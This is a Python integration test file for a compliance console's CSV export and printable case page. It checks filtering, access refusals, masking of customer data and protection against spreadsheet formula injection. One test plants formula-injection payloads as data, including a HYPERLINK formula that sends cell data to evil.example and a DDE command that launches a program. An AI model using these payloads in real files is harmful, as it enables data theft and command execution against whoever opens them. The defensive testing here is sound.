"""The queue exported as CSV and a case as a printable page, over the console's HTTP edge on
real databases: the export reads back to the cases the queue's filter lists, its cells are
safe in a spreadsheet, and both refuse whom the queue and the case page refuse."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import timedelta

import pytest
from sqlalchemy import Engine

from tests.integration.review.test_console_requests import AT, call, leak_case, session
from warden.compliance.domain.cases import Choice, Outcome, open_case
from warden.compliance.domain.findings import Finding
from warden.compliance.domain.sanctions import Sanction, SanctionKind
from warden.compliance.review.cases import Review
from warden.compliance.storage import case_store, schema
from warden.compliance.storage.case_store import CaseFilter
from warden.console import app as console_app
from warden.console.app import Console
from warden.console.export import COLUMNS
from warden.platform.db import make_engine

SECRET = "console-test-secret-of-at-least-32-bytes"
FINE = Sanction(SanctionKind.FINE, 50_000, "EUR")


@pytest.fixture
def engine(database_url: str) -> Iterator[Engine]:
    engine = make_engine(database_url, schema.metadata)
    yield engine
    engine.dispose()


@pytest.fixture
def console(engine: Engine) -> Console:
    return Console(Review(engine, clock=lambda: AT + timedelta(days=5)), SECRET)


def add_case(
    engine: Engine, n: int, employee: str, clause: str, severity: str, title: str = ""
) -> str:
    finding = Finding(
        finding_id=f"f-{n}",
        rule_id="test-rule",
        rule_version=2,
        clause=clause,
        severity=severity,
        title=title or f"finding {n}",
        employee_id=employee,
        event_ids=(),
        reasons=(f"reason {n}",),
        occurred_at=AT,
    )
    case = open_case(finding, FINE, opened_at=AT + timedelta(minutes=n))
    with engine.begin() as conn:
        case_store.add_case(conn, case)
    return case.case_id


def exported(console: Console, token: str, query: str = "") -> list[dict[str, str]]:
    status, body, headers = call(console, "GET", f"/cases.csv{query}", token)
    assert status.startswith("200"), body
    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    assert headers["Content-Disposition"].startswith('attachment; filename="warden-cases-')
    reader = csv.DictReader(io.StringIO(body, newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return list(reader)


def listed(review: Review, where: CaseFilter) -> list[str]:
    """The case ids the Review use case lists for `where`, every page of 25 in turn."""
    ids, page = [], ""
    while True:
        found, page = review.list_cases(where, 25, page)
        ids += [c.case_id for c in found]
        if not page:
            return ids


def test_the_csv_export_reads_back_to_every_case_the_queue_filter_lists_across_pages(
    console: Console, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(console_app, "_CSV_BATCH", 20)  # several batches, as with many cases
    for n in range(75):
        clause = "4.2.1" if n % 3 else "4.1.1"
        add_case(engine, n, f"emp-{n % 4}", clause, "critical" if n % 2 else "major")
    review = console.review
    decided = add_case(engine, 100, "emp-1", "4.2.1", "critical", "decided one")
    review.claim(decided, "olivia")
    amended = Choice(Outcome.AMENDED, "first offence", Sanction(SanctionKind.WARNING))
    _, decision = review.decide(decided, "olivia", amended)
    if decision is None:  # four eyes: a second officer confirms
        review.confirm(decided, "pat")
    token = session(console, "emp-3", "officer")  # never sees the cases about emp-3

    rows = exported(console, token, "?clause=4.2.1&status=&page=25")
    expected = listed(review, CaseFilter(clause="4.2.1", hidden_from="emp-3"))
    assert len(expected) > 25  # more than one page of the queue
    assert [r["case_id"] for r in rows] == expected
    assert {r["clause"] for r in rows} == {"4.2.1"} and "emp-3" not in {
        r["employee_id"] for r in rows
    }
    (row,) = [r for r in rows if r["case_id"] == decided]
    assert (row["status"], row["decision_outcome"], row["decision_sanction"]) == (
        "decided",
        "amended",
        "warning",
    )
    assert row["proposed_sanction"] == "fine of 500.00 EUR" and row["overdue"] == "no"
    assert row["rules"] == "test-rule v2" and row["explanation"] == "reason 100"
    stored = {c.case_id: c for c in review.list_cases(CaseFilter(clause="4.2.1"), 500)[0]}
    for r in rows:
        case = stored[r["case_id"]]
        assert case.due_at is not None
        assert (r["inbox"], r["due_at"]) == (case.inbox, case.due_at.isoformat())
    assert {r["inbox"] for r in rows} == {"after-sales"}  # the 4.2 family's inbox by default
    undecided = next(r for r in rows if r["case_id"] != decided)
    assert (undecided["decision_outcome"], undecided["overdue"]) == ("", "yes")

    rows = exported(console, token, "?severity=major&employee=emp-0")
    expected = listed(review, CaseFilter(severity="major", employee_id="emp-0"))
    assert expected and [r["case_id"] for r in rows] == expected


def test_the_queue_links_its_export_with_its_filters_and_not_its_page(console: Console) -> None:
    token = session(console, "olivia", "officer")
    _, page, _ = call(console, "GET", "/cases?clause=4.2.1&severity=&page=25", token)
    assert '<a id="export" href="/cases.csv?clause=4.2.1">Export CSV</a>' in page


def test_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(
    console: Console, engine: Engine
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    case_id = add_case(engine, 1, "=cmd|' /C calc'!A0", "4.1.1", "major", formula)
    add_case(engine, 2, "@sum", "4.1.1", "major", "+1+1")
    add_case(engine, 3, "-2", "4.1.1", "major", "\tx")
    rows = exported(console, session(console, "olivia", "officer"))
    (row,) = [r for r in rows if r["case_id"] == case_id]
    assert row["employee_id"] == "'=cmd|' /C calc'!A0" and row["title"] == "'" + formula
    cells = {(r["employee_id"], r["title"]) for r in rows}
    assert cells == {("'=cmd|' /C calc'!A0", "'" + formula), ("'@sum", "'+1+1"), ("'-2", "'\tx")}


def test_the_export_masks_customers_data_for_officers_and_shows_it_to_admins(
    console: Console, engine: Engine
) -> None:
    leak_case(engine, ("customer: cust-4242", "exported to: rival@example.com"))
    (row,) = exported(console, session(console, "olivia", "officer"))
    assert row["explanation"] == "customer: c***2; exported to: r***m"
    (row,) = exported(console, session(console, "ada", "admin"))
    assert row["explanation"] == "customer: cust-4242; exported to: rival@example.com"


def test_the_export_refuses_other_roles_and_bad_filters_as_the_queue_does(
    console: Console, engine: Engine
) -> None:
    leak_case(engine)
    status, body, _ = call(console, "GET", "/cases.csv", session(console, "h", "hr_reader"))
    assert status.startswith("403") and "cust" not in body
    status, _, headers = call(console, "GET", "/cases.csv")
    assert status.startswith("303") and headers["Location"] == "/login"
    token = session(console, "olivia", "officer")
    for query, error in (
        ("status=closed", "status: &#39;closed&#39; is not one of open, in_review, decided, "),
        ("severity=huge", "severity: &#39;huge&#39; is not one of minor, major, critical"),
        ("clause=9.9", "clause: &#39;9.9&#39; is not one of 4.1.1, 4.1.2, 4.2.1, 4.2.2"),
        ("min_age_hours=-3", "min_age_hours: &#39;-3&#39; is not a whole number of hours"),
    ):
        for path in ("/cases.csv", "/cases"):
            status, page, headers = call(console, "GET", f"{path}?{query}", token)
            assert status.startswith("400") and error in page, (path, query)
            assert headers["Content-Type"].startswith("text/html")


def test_the_printable_page_has_the_evidence_decision_comments_and_audit_entries_and_no_script(
    console: Console, engine: Engine
) -> None:
    case_id = leak_case(engine, ("customer: cust-4242",))
    review = console.review
    review.claim(case_id, "olivia")
    review.comment(case_id, "olivia", "spoke with the team lead")
    _, decision = review.decide(case_id, "olivia", Choice(Outcome.DISMISSED, "export approved"))
    if decision is None:
        review.confirm(case_id, "pat")
    (decision_row,) = review.decisions_of([case_id])[case_id]
    status, page, headers = call(
        console, "GET", f"/cases/{case_id}/print", session(console, "pat", "officer")
    )
    assert status.startswith("200")
    assert headers["Content-Security-Policy"] == "default-src 'self'; style-src 'unsafe-inline'"
    assert "<script" not in page.lower() and "<form" not in page and "/logout" not in page
    assert "@media print" in page
    assert "<b>warden.aftersales.customer_data.accessed</b> ev-1" in page  # the evidence
    assert "c***2" in page and "cust-4242" not in page and "rival@example.com" not in page
    assert f"<td>{decision_row.decision_id} (revision 1)</td>" in page
    assert "<td>dismissed</td><td>none</td>" in page and "export approved" in page
    assert "spoke with the team lead" in page
    for entry in review.audit_trail(case_id):
        assert f"<tr><td>{entry.seq}</td>" in page and entry.hash in page
    assert len(review.audit_trail(case_id)) >= 4  # created, claimed, commented, decided
    _, admin_page, _ = call(
        console, "GET", f"/cases/{case_id}/print", session(console, "ada", "admin")
    )
    assert "cust-4242" in admin_page and "rival@example.com" in admin_page


def test_the_printable_page_is_refused_to_the_employee_concerned_and_unknown_ids(
    console: Console, engine: Engine
) -> None:
    case_id = leak_case(engine)  # about dave
    status, page, _ = call(
        console, "GET", f"/cases/{case_id}/print", session(console, " Dave", "officer")
    )
    assert status.startswith("403") and "self-review" in page and "cust" not in page
    token = session(console, "olivia", "officer")
    status, page, _ = call(console, "GET", "/cases/no-such-case/print", token)
    assert status.startswith("404") and "no-such-case" in page
    status, _, _ = call(
        console, "GET", f"/cases/{case_id}/print", session(console, "h", "hr_reader")
    )
    assert status.startswith("403")


def test_cases_opened_after_the_export_started_are_left_out_of_it(engine: Engine) -> None:
    console = Console(Review(engine, clock=lambda: AT + timedelta(minutes=30)), SECRET)
    before = add_case(engine, 10, "emp-1", "4.1.1", "major")
    add_case(engine, 40, "emp-1", "4.1.1", "major")  # opened at AT + 40 min: after "now"
    rows = exported(console, session(console, "olivia", "officer"))
    assert [r["case_id"] for r in rows] == [before]
